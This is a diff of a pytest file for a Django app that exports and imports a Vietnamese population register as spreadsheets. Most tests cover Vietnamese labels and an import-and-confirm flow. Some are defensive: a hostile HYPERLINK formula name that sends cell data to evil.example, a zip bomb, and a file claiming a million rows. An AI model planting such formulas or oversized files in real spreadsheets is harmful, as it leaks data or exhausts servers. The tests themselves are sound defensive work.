@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import io
+import re
+import time
+import tracemalloc
 import zipfile
 
 import pytest
@@ -14,7 +17,7 @@ from openpyxl import Workbook, load_workbook
 
 from universalization import workbook
 from universalization.exchange import COMMUNE_COLUMNS, PERSON_COLUMNS
-from universalization.models import Household, Person, PersonAccess
+from universalization.models import Household, Person, PersonAccess, RegisterImport
 from universalization.services import RegisterRefused
 
 YEAR = 2020
@@ -81,23 +84,32 @@ def load(content: bytes, actor, name: str = "register.xlsx"):
 # --- Export ---
 
 
-def test_the_export_is_the_exchange_format_with_help_and_drop_down_lists(client, register, world):
+def test_the_export_has_vietnamese_titles_hidden_keys_and_coded_values_as_labels(
+    client, register, world
+):
     client.force_login(world.users.commune_reporter)
     wb = load_workbook(io.BytesIO(export(client, "C-A1", year=YEAR)))
-    assert wb.sheetnames[:2] == ["communes", "persons"] and len(wb.sheetnames) == 3
-    communes, persons = wb["communes"], wb["persons"]
-    assert [c.value for c in communes[1]] == list(COMMUNE_COLUMNS)
-    assert [c.value for c in communes[2]] == ["C-A1", "D-A", "no"]
-    assert [c.value for c in persons[1]] == list(PERSON_COLUMNS)
-    assert persons.max_row == 41
-    assert [c.value for c in persons[2]][:6] == ["C-A1", "H0", "P0", "Người 0", "M", 2015]
+    assert wb.sheetnames == ["Xã", "Nhân khẩu", "hướng dẫn", "lists"]
+    assert wb["lists"].sheet_state == "hidden"
+    communes, persons = wb["Xã"], wb["Nhân khẩu"]
+    assert [c.value for c in communes[1]][0] == "Mã xã"
+    assert [c.value for c in communes[2]] == list(COMMUNE_COLUMNS)
+    assert communes.row_dimensions[2].hidden and persons.row_dimensions[2].hidden
+    assert [c.value for c in communes[3]] == ["C-A1", "D-A", "không"]
+    assert [c.value for c in persons[2]] == list(PERSON_COLUMNS)
+    assert persons.max_row == 42
+    assert [c.value for c in persons[3]][:7] == ["C-A1", "H0", "P0", "Người 0", "nam", 2015,
+                                                 "thường trú"]  # fmt: skip
     assert all(c.comment is not None for c in persons[1])
     lists = {
         str(v.sqref).split(":")[0]: v.formula1 for v in persons.data_validations.dataValidation
     }
-    assert lists["E2"] == '"M,F"' and "moved_away" in lists["G2"]
-    instructions = wb[wb.sheetnames[2]]
-    assert "birth_year" in [c.value for c in instructions["B"]]
+    sheet, cells = lists["E3"].split("!")
+    first, last = cells.replace("$", "").split(":")
+    assert sheet == "'lists'"
+    assert [row[0].value for row in wb["lists"][first:last]] == ["nam", "nữ"]
+    instructions = wb["hướng dẫn"]
+    assert "birth_year" in [c.value for c in instructions["C"]]
     access = PersonAccess.objects.get()
     assert (access.action, access.rows, access.unit.code) == ("export", 40, "C-A1")
 
@@ -105,11 +117,23 @@ def test_the_export_is_the_exchange_format_with_help_and_drop_down_lists(client,
 def test_a_district_export_holds_its_communes_only(client, register, world):
     client.force_login(world.users.viewer)
     wb = load_workbook(io.BytesIO(export(client, "D-A", year=YEAR)), read_only=True)
-    rows = list(wb["communes"].values)[1:]
-    assert rows == [("C-A1", "D-A", "no"), ("C-A2", "D-A", "yes")]
-    codes = {row[0] for row in list(wb["persons"].values)[1:]}
+    rows = list(wb["Xã"].values)[2:]
+    assert rows == [("C-A1", "D-A", "không"), ("C-A2", "D-A", "có")]
+    codes = {row[0] for row in list(wb["Nhân khẩu"].values)[2:]}
     assert codes == {"C-A1", "C-A2"}
     assert PersonAccess.objects.get().rows == 42
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, register, world):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    Person.objects.filter(commune__code="C-A1", code="P0").update(full_name=hostile)
+    client.force_login(world.users.commune_reporter)
+    content = export(client, "C-A1", year=YEAR)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
+    cell = load_workbook(io.BytesIO(content))["Nhân khẩu"]["D3"]
+    assert (cell.value, cell.data_type) == (hostile, "s")
 
 
 def test_an_export_outside_the_scope_is_404_and_not_recorded(client, register, world):
@@ -122,17 +146,65 @@ def test_an_export_outside_the_scope_is_404_and_not_recorded(client, register, w
 # --- Round trip ---
 
 
-def test_an_exported_register_imports_back_without_a_change(client, register, world):
+def start_import(client, capture, code: str, data: dict) -> RegisterImport:
+    """Upload through the import page; the check runs (in-process) once the request ends."""
+    with capture(execute=True):
+        response = client.post(reverse("register:import", args=[code]), data)
+    assert response.status_code == 302, getattr(response, "context", None)
+    job = RegisterImport.objects.get(pk=response.url.rstrip("/").rsplit("/", 1)[1])
+    assert response.url == reverse("register:import_job", args=[code, job.pk])
+    return job
+
+
+def confirm(client, capture, job: RegisterImport, action: str = "confirm") -> RegisterImport:
+    url = reverse("register:import_confirm", args=[job.unit.code, job.pk])
+    with capture(execute=True):
+        assert client.post(url, {"action": action}).status_code == 302
+    job.refresh_from_db()
+    return job
+
+
+def test_an_exported_register_imports_back_without_a_change(
+    client, register, world, immediate_tasks, django_capture_on_commit_callbacks
+):
     client.force_login(world.users.district_admin)
     content = export(client, "D-A", year=YEAR)
     before = snapshot()
-    response = client.post(
-        reverse("register:import", args=["D-A"]), {"year": YEAR, "workbook": upload(content)}
-    )
-    result = response.context["result"]
-    assert response.context["refused"] is None
-    assert (result.created, result.changed, result.unchanged) == (0, 0, 42)
+    job = start_import(client, django_capture_on_commit_callbacks, "D-A",
+                       {"year": YEAR, "workbook": upload(content)})  # fmt: skip
+    job.refresh_from_db()
+    assert job.status == "ready", job.errors
+    summary = {
+        c["code"]: (c["added"], c["changed"], c["unchanged"]) for c in job.preview["communes"]
+    }
+    assert summary == {"C-A1": (0, 0, 40), "C-A2": (0, 0, 2)}
+    job = confirm(client, django_capture_on_commit_callbacks, job)
+    assert job.status == "done"
+    assert (job.result["created"], job.result["changed"], job.result["unchanged"]) == (0, 0, 42)
     assert snapshot() == before
+
+
+def test_a_stored_name_beginning_with_equals_round_trips_unchanged(
+    client, register, world, immediate_tasks, django_capture_on_commit_callbacks
+):
+    Person.objects.filter(commune__code="C-A1", code="P0").update(full_name="=1+1 Nguyễn")
+    client.force_login(world.users.commune_reporter)
+    content = export(client, "C-A1", year=YEAR)
+    before = snapshot()
+    result = load(content, world.users.commune_reporter)
+    assert (result.created, result.changed, result.unchanged) == (0, 0, 40)
+    assert snapshot() == before
+
+
+def test_sex_and_coded_values_are_read_by_their_vietnamese_labels(register, world):
+    content = build([["C-A1", "D-A", "không"]], [
+        person("C-A1", "VN1", sex="nữ", residence="tạm trú", preschool_completed="có"),
+        person("C-A1", "VN2", sex="Nam", residence="temporary", preschool_completed="no"),
+    ])  # fmt: skip
+    load(content, world.users.commune_reporter)
+    read = {p.code: (p.sex, p.residence, p.preschool_completed)
+            for p in Person.objects.filter(code__in=["VN1", "VN2"])}  # fmt: skip
+    assert read == {"VN1": ("F", "temporary", True), "VN2": ("M", "temporary", False)}
 
 
 def test_a_changed_workbook_updates_the_register_with_history(register, world):
@@ -153,19 +225,21 @@ def test_numbers_read_as_floats_become_whole_numbers(register, world):
     assert (new.birth_year, new.highest_grade_completed, new.preschool_completed) == (2012, 2, True)
 
 
-def test_the_two_csv_files_import_as_well(client, register, world):
+def test_the_two_csv_files_import_as_well(
+    client, register, world, immediate_tasks, django_capture_on_commit_callbacks
+):
     client.force_login(world.users.commune_reporter)
     communes = "commune_code,district_code,disadvantaged\nC-A1,D-A,no\n"
     persons = ",".join(PERSON_COLUMNS) + "\nC-A1,H0,CSV1,Phạm Thị C,F,2011" + "," * 9 + "\n"
-    response = client.post(
-        reverse("register:import", args=["C-A1"]),
-        {
-            "year": YEAR,
-            "communes_csv": SimpleUploadedFile("xa.csv", communes.encode()),
-            "persons_csv": SimpleUploadedFile("nguoi.csv", persons.encode()),
-        },
-    )
-    assert response.context["result"].created == 1
+    job = start_import(client, django_capture_on_commit_callbacks, "C-A1", {
+        "year": YEAR,
+        "communes_csv": SimpleUploadedFile("xa.csv", communes.encode()),
+        "persons_csv": SimpleUploadedFile("nguoi.csv", persons.encode()),
+    })  # fmt: skip
+    job.refresh_from_db()
+    assert job.preview["communes"][0]["added"] == 1
+    assert not Person.objects.filter(code="CSV1").exists()  # nothing before the confirmation
+    assert confirm(client, django_capture_on_commit_callbacks, job).result["created"] == 1
     assert Person.objects.get(code="CSV1").full_name == "Phạm Thị C"
 
 
@@ -198,6 +272,20 @@ BAD_FILES = {
         lambda: _single_sheet(),
         "no sheet named “persons”",
     ),
+    "an .ods spreadsheet": (
+        lambda: zip_of(
+            {
+                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
+                "content.xml": b"<office:document-content/>",
+            }
+        ),
+        "not .xls or .ods",
+    ),
+    "an .xls workbook": (
+        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
+        "not .xls or .ods",
+    ),
+    "a sheet declaring a million rows": (lambda: declared_rows(1_000_000), "more than"),
     "a formula without a computed value": (formula_workbook, "formula without a computed value"),
     "wrong headers": (
         lambda: build([A1], [["C-A1", "H1", "X1"]], header=("commune", "household", "person")),
@@ -216,6 +304,21 @@ BAD_FILES = {
         "after the year",
     ),
 }
+
+
+def declared_rows(rows: int) -> bytes:
+    """A small workbook whose persons sheet says it holds `rows` rows."""
+    content = build([A1], [person("C-A1", "D1")])
+    source, output = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet2.xml":
+                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="A1:O{rows}"'.encode(),
+                              data)  # fmt: skip
+                assert f"A1:O{rows}".encode() in data
+            target.writestr(item, data)
+    return output.getvalue()
 
 
 def _single_sheet() -> bytes:
@@ -253,6 +356,33 @@ def test_a_file_too_big_is_refused_before_it_is_read(register, world, english, m
     assert not Person.objects.filter(code="N1").exists()
 
 
+def test_a_small_file_declaring_a_million_rows_is_refused_quickly_in_little_memory(
+    register, world, english
+):
+    content = declared_rows(1_000_000)
+    assert len(content) < 20_000
+    tracemalloc.start()
+    started = time.perf_counter()
+    with pytest.raises(workbook.WorkbookRefused) as e:
+        load(content, world.users.commune_reporter)
+    elapsed = time.perf_counter() - started
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert "more than 300000 rows" in e.value.errors[0].message
+    assert elapsed < 5 and peak < 30 * 2**20, (elapsed, peak)
+
+
+def test_rows_beyond_the_cap_are_refused_even_when_the_sheet_does_not_declare_them(
+    register, world, english, monkeypatch
+):
+    monkeypatch.setattr(workbook, "MAX_ROWS", 5)
+    content = build([A1], [person("C-A1", f"R{n}") for n in range(10)])
+    with pytest.raises(workbook.WorkbookRefused) as e:
+        load(content, world.users.commune_reporter)
+    assert "more than 5 rows" in e.value.errors[0].message
+    assert not Person.objects.filter(code="R1").exists()
+
+
 def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(register, world, english, monkeypatch):
     monkeypatch.setattr(workbook, "MAX_UNCOMPRESSED_BYTES", 1024 * 1024)
     bomb = zip_of({"[Content_Types].xml": b"<Types/>", "xl/filler.xml": b"0" * 2 * 1024 * 1024})
@@ -269,21 +399,24 @@ def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(register, world, english
     assert snapshot() == before
 
 
-def test_the_import_page_shows_each_error_in_a_table(client, register, world, english):
+def test_the_import_page_shows_each_error_in_a_table(
+    client, register, world, english, immediate_tasks, django_capture_on_commit_callbacks
+):
     client.force_login(world.users.commune_reporter)
     content = build([A1], [person("C-A1", "E1", sex="X", highest_grade_completed=14)])
     before = snapshot()
-    response = client.post(
-        reverse("register:import", args=["C-A1"]), {"year": YEAR, "workbook": upload(content)}
-    )
-    errors = response.context["refused"].errors
-    assert [(e.file, e.line, e.column) for e in errors] == [
+    job = start_import(client, django_capture_on_commit_callbacks, "C-A1",
+                       {"year": YEAR, "workbook": upload(content)})  # fmt: skip
+    job.refresh_from_db()
+    assert job.status == "refused" and not job.folder
+    assert [(e["place"], e["row"], e["column"]) for e in job.errors] == [
         ("persons", 2, "highest_grade_completed"),
         ("persons", 2, "sex"),
     ]
+    response = client.get(reverse("register:import_job", args=["C-A1", job.pk]))
     html = response.content.decode()
     assert 'class="striped import-errors"' in html and "highest_grade_completed" in html
-    assert response.context["result"] is None
+    assert "Confirm" not in html
     assert snapshot() == before
 
 
